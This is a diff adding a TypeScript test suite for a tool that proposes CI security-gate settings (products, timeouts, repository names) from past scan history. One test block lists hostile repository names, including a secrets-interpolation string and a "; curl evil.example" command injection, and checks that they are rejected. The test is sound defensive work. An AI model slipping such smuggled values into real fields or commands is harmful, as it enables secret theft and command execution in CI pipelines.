@@ -1,0 +1,268 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { ScanMeta } from '../../../../src/domain/scan.ts';
+import type { Checkout } from '../../../../src/domain/target.ts';
+import { parseInputs } from '../../../../src/inputs/parse-inputs.ts';
+import { withDefaults } from '../../../../src/inputs/raw-inputs.ts';
+import type { Proposal, ProposedInput } from '../../../../src/tools/doctor/facts/proposal.ts';
+import { proposeSettings } from '../../../../src/tools/doctor/project/propose-settings.ts';
+import type { SeenProject } from '../../../../src/tools/doctor/project/seen-project.ts';
+import { someScans } from '../../../scan/some-scans.ts';
+import { aCommit, anotherProject, aSeenProject, commits, detailOf, type Habit } from './a-seen-project.ts';
+
+const GIVEN = { 'base-url': 'https://platform.example', 'api-token': 'a-token-of-the-platform', 'deployment-id': '42' };
+
+/** Every proposal goes back through the gate's own reader. */
+function proposed(project: SeenProject, checkout: Checkout = {}): Readonly<Record<ProposedInput, Proposal>> {
+  const proposals = proposeSettings(project, { checkout, isMeant: true });
+  const values = proposals.flatMap(({ input, value }) => (value === undefined ? [] : [[input, value] as const]));
+  const raw = withDefaults({ ...GIVEN, ...Object.fromEntries(values) }, { GITHUB_REPOSITORY: 'acme/shop' });
+  const inputs = parseInputs(raw);
+  expect(inputs.discoveryTimeoutMs!).toBeLessThanOrEqual(inputs.waitTimeoutMs!);
+  for (const { reason } of proposals) expect(reason).toMatch(/^[A-Z0-9a-z].*\.$/);
+  return Object.fromEntries(proposals.map((one) => [one.input, one])) as Record<ProposedInput, Proposal>;
+}
+
+function valuesOf(...given: Parameters<typeof proposed>): Partial<Record<ProposedInput, string>> {
+  const all = Object.values(proposed(...given));
+  return Object.fromEntries(all.flatMap(({ input, value }) => (value === undefined ? [] : [[input, value]])));
+}
+
+function reasonOf(input: ProposedInput, scans: SeenProject['scans'], given: Partial<SeenProject> = {}): string {
+  return proposed(aSeenProject(scans, given))[input].reason;
+}
+
+it('are what the gate itself would take, whatever was scanned', () => {
+  fc.assert(
+    fc.property(someScans, (scans) => {
+      proposed(aSeenProject(scans));
+    }),
+  );
+});
+
+it('are none where nothing was scanned', () => {
+  expect(valuesOf(aSeenProject([]))).toEqual({});
+});
+
+it('are the id and the products of a project with quick scans, and no time', () => {
+  expect(valuesOf(aSeenProject(commits(10)))).toEqual({
+    'repository-id': '4242',
+    'required-products': 'code, secrets',
+  });
+});
+
+it('are none where another project may be meant', () => {
+  const proposals = proposeSettings(aSeenProject(commits(10)), { checkout: {}, isMeant: false });
+  expect(proposals.map(({ value }) => value).filter((value) => value !== undefined)).toEqual([]);
+  expect(proposals[0]!.reason).toContain('4242');
+});
+
+describe('required products', () => {
+  const productsOf = (scans: SeenProject['scans']) => valuesOf(aSeenProject(scans))['required-products'];
+  const NIGHT: Habit = { branch: 'main', isFullScan: true, products: ['sast', 'sca', 'secrets'] };
+
+  it('leave out what only full scans at night run', () => {
+    const nights = Array.from({ length: 10 }, (_, night) => aCommit(100 + night, [NIGHT])).flat();
+    const scans = [...commits(10, [{ products: ['sast'] }]), ...nights];
+    expect(productsOf(scans)).toBe('code');
+    expect(reasonOf('required-products', scans)).toContain('supply-chain was scanned elsewhere, on none of these.');
+  });
+
+  it('leave out what a scan at night adds to the commits of pull requests', () => {
+    expect(productsOf(commits(8, [{ products: ['sast'] }, { products: ['sca'], after: 240 }]))).toBe('code');
+  });
+
+  it('leave out what some pull requests were not scanned for', () => {
+    const scans = [...commits(9, [{ products: ['sast', 'sca'] }]), ...aCommit(10, [{ products: ['sast'] }])];
+    expect(productsOf(scans)).toBe('code');
+    expect(reasonOf('required-products', scans)).toContain('supply-chain ran on 9 of them');
+  });
+
+  it('name what comes in a scan of its own, and what failed there', () => {
+    const habits = [{ products: ['sast'] }, { products: ['sca'], after: 2 }];
+    const failed = aCommit(20, [habits[0]!, { ...habits[1]!, status: 'error' }]);
+    expect(productsOf([...commits(8, habits), ...failed])).toBe('code, supply-chain');
+  });
+
+  it('take a scan that failed without a word for no sign against a product', () => {
+    const failed = aCommit(20, [{ products: ['sast'] }, { products: [], status: 'error' }]);
+    expect(productsOf([...commits(8), ...failed])).toBe('code, secrets');
+  });
+
+  it('are not proposed for two pull requests, however often they were scanned', () => {
+    const scans = Array.from({ length: 12 }, (_, place) =>
+      aCommit(place, [{ branch: `refs/pull/${place % 2}/merge` }]),
+    );
+    expect(productsOf(scans.flat())).toBeUndefined();
+    expect(reasonOf('required-products', scans.flat())).toBe(
+      'Too little was seen: 12 commits of 2 pull requests, where 5 of 3 are needed.',
+    );
+  });
+
+  it('are not taken from branches where few pull requests were scanned', () => {
+    const branches = Array.from({ length: 9 }, (_, place) => aCommit(100 + place, [{ ...NIGHT, branch: `b${place}` }]));
+    expect(productsOf([...commits(4, [{ products: ['sast'] }]), ...branches.flat()])).toBeUndefined();
+  });
+
+  it('are those of branches where pull requests have no scans of their own', () => {
+    const branches = Array.from({ length: 9 }, (_, place) => aCommit(place, [{ ...NIGHT, branch: `b${place % 4}` }]));
+    expect(productsOf(branches.flat())).toBe('code, supply-chain, secrets');
+  });
+
+  it('are not proposed where one branch alone is scanned: no pull request would have a scan', () => {
+    const nights = Array.from({ length: 30 }, (_, place) => aCommit(place, [NIGHT]));
+    expect(productsOf(nights.flat())).toBeUndefined();
+    expect(reasonOf('required-products', nights.flat())).toContain('Let the scanner run on pull requests first.');
+  });
+
+  it('do not count commits whose scans run, or began only now', () => {
+    const running = aCommit(3, [{}, { products: ['sca'], status: 'running' }]);
+    const now = aCommit(-0.8, [{ products: ['sast'], branch: 'refs/pull/99/merge' }]);
+    expect(productsOf([...commits(6), ...running, ...now].filter(({ id }) => id !== '89970'))).toBe('code, secrets');
+  });
+
+  it('are none where the scans list only words that are not known', () => {
+    expect(productsOf(commits(9, [{ products: ['dast'] }]))).toBeUndefined();
+  });
+});
+
+describe('times', () => {
+  const timesOf = (habits: readonly Habit[], count = 12) => {
+    const { 'discovery-timeout': discovery, 'wait-timeout': wait } = valuesOf(aSeenProject(commits(count, habits)));
+    return [discovery, wait];
+  };
+
+  it.each<[string, readonly Habit[], string | undefined, string | undefined]>([
+    ['quick scans', [{ took: 6 }], undefined, undefined],
+    ['slow scans', [{ took: 20 }], undefined, '35m'],
+    ['very slow scans', [{ took: 70 }], undefined, '2h'],
+    ['scans that no job can wait for', [{ took: 600 }], undefined, undefined],
+    ['a required product that is always late', [{ products: ['sast'] }, { products: ['sca'], after: 8 }], '17m', '20m'],
+    [
+      'a required product within a minute',
+      [{ products: ['sast'] }, { products: ['sca'], after: 1 }],
+      undefined,
+      undefined,
+    ],
+    [
+      'a scan at night of the same commit',
+      [{ took: 3 }, { after: 200, took: 90, isFullScan: true }],
+      undefined,
+      undefined,
+    ],
+  ])('follow from %s', (_, habits, discovery, wait) => {
+    expect(timesOf(habits)).toEqual([discovery, wait]);
+  });
+
+  it('do not follow from one slow scan among quick ones', () => {
+    const slow = aCommit(50, [{ took: 180 }]);
+    expect(valuesOf(aSeenProject([...commits(8), ...slow]))['wait-timeout']).toBeUndefined();
+    expect(reasonOf('wait-timeout', [...commits(8), ...slow])).toContain(
+      "within 2m of the first scan's start, but for 1 (up to 3h)",
+    );
+  });
+
+  it('follow from slow scans that are not rare', () => {
+    const slow = Array.from({ length: 4 }, (_, place) => aCommit(50 + place, [{ took: 30 }])).flat();
+    expect(valuesOf(aSeenProject([...commits(16), ...slow]))['wait-timeout']).toBe('50m');
+  });
+
+  it('are not proposed by a few scans, and a default that may be too short is told', () => {
+    expect(timesOf([{ took: 40 }], 3)).toEqual([undefined, undefined]);
+    expect(reasonOf('wait-timeout', commits(3, [{ took: 40 }]))).toContain('The longest took 40m: the default of 15m');
+  });
+
+  it('are those of pull requests, not of the full scans of a branch', () => {
+    const nights = Array.from({ length: 20 }, (_, night) =>
+      aCommit(100 + night, [{ branch: 'main', isFullScan: true, took: 120 }]),
+    );
+    expect(valuesOf(aSeenProject([...commits(8), ...nights.flat()]))['wait-timeout']).toBeUndefined();
+  });
+
+  it('do not wait for a product that nothing judges', () => {
+    const habits: readonly Habit[] = [{ products: ['sast'] }, { products: ['ai_sast'], took: 50, status: 'error' }];
+    expect(timesOf(habits)).toEqual([undefined, undefined]);
+    expect(reasonOf('wait-timeout', commits(8, habits))).toContain('The default of 15m leaves time.');
+    expect(reasonOf('required-products', commits(8, habits))).toContain(
+      'ai-code ran on all of them, and mostly without',
+    );
+  });
+});
+
+describe('the project', () => {
+  const named = (meta: Partial<ScanMeta>, checkout: Checkout = {}, others: SeenProject['others'] = []) => {
+    const scans = commits(6);
+    const details = scans.map((scan) => detailOf(scan, meta));
+    const project = aSeenProject(scans, { details, others, unnamedOthers: 0 });
+    const { 'repository-id': id, repository } = proposed(project, checkout);
+    return { id: id.value, repository: repository.value, why: `${id.reason} ${repository.reason}` };
+  };
+  const AT_HOME: Checkout = { host: 'github.com', path: 'acme/shop', names: ['acme/shop'] };
+
+  it('needs no name where its scans name the repository', () => {
+    expect(named({}, AT_HOME)).toMatchObject({ id: '4242', repository: undefined });
+  });
+
+  it('is a part of a monorepo by the name that is shown of it, and its siblings are told', () => {
+    const others = [anotherProject('2', { repoDisplayName: 'acme/shop/web' })];
+    const part = named({ repoDisplayName: 'acme/shop/api' }, AT_HOME, others);
+    expect(part).toMatchObject({ id: '4242', repository: 'acme/shop/api' });
+    expect(part.why).toContain('each of which needs a job of its own: acme/shop/web (2)');
+  });
+
+  it('keeps the default where not every scan shows the name of the part: it would refuse the others', () => {
+    const scans = commits(6);
+    const details = scans.map((scan, index) =>
+      detailOf(scan, { repoDisplayName: index < 3 ? 'acme/shop/api' : undefined }),
+    );
+    expect(valuesOf(aSeenProject(scans, { details }), AT_HOME).repository).toBeUndefined();
+  });
+
+  it('is named where its scans call it otherwise than the checkout, without an address', () => {
+    expect(named({ repoUrl: undefined, repository: 'shop', repoDisplayName: 'shop' }, AT_HOME).repository).toBe('shop');
+  });
+
+  it('is named by what fits every scan, or not at all', () => {
+    const scans = commits(2);
+    const details = scans.map((scan, index) =>
+      detailOf(scan, { repoUrl: undefined, repository: `shop${index}`, repoDisplayName: `shop${index}` }),
+    );
+    const { repository } = proposed(aSeenProject(scans, { details }), AT_HOME);
+    expect(repository).toMatchObject({ value: undefined, reason: expect.stringContaining('do not agree') });
+  });
+
+  it.each([
+    'shop ${{ secrets.PLATFORM_TOKEN }}',
+    "shop'; curl evil.example",
+    'shop\n  mode: report',
+    'shop\u202e',
+    '-shop',
+  ])('is not named by hostile text: %j', (name) => {
+    expect(named({ repoUrl: undefined, repository: name, repoDisplayName: name }, AT_HOME).repository).toBeUndefined();
+  });
+
+  it('has no id to paste where a project of the same name was scanned later', () => {
+    const anew = named({}, AT_HOME, [anotherProject('5000', {}, 0)]);
+    expect(anew).toMatchObject({ id: undefined, why: expect.stringContaining('Project 5000 has the same name') });
+    expect(named({}, AT_HOME, [anotherProject('3', {}, 900)]).id).toBe('4242');
+  });
+
+  it('tells that others were not asked for their names', () => {
+    const project = aSeenProject(commits(2), { unnamedOthers: 3 });
+    expect(proposed(project)['repository-id'].reason).toContain('3 other projects were not asked for a name.');
+  });
+});
+
+describe('what people must decide', () => {
+  it('is said, and not proposed: full scans, and a baseline', () => {
+    const full = commits(6, [{ isFullScan: true }]);
+    expect(reasonOf('baseline', full)).toContain('With base, only what is worse');
+    expect(reasonOf('required-scan', full)).toContain('the default finds them');
+    expect(reasonOf('required-scan', commits(6))).toContain('with full they would have none');
+    expect(reasonOf('baseline', commits(6))).toContain('no baseline is needed');
+    const both = commits(6, [{}, { isFullScan: true, after: 1 }]);
+    expect(reasonOf('required-scan', both)).toContain(
+      '6 of 6 commits of pull requests have a full scan and a diff scan',
+    );
+  });
+});
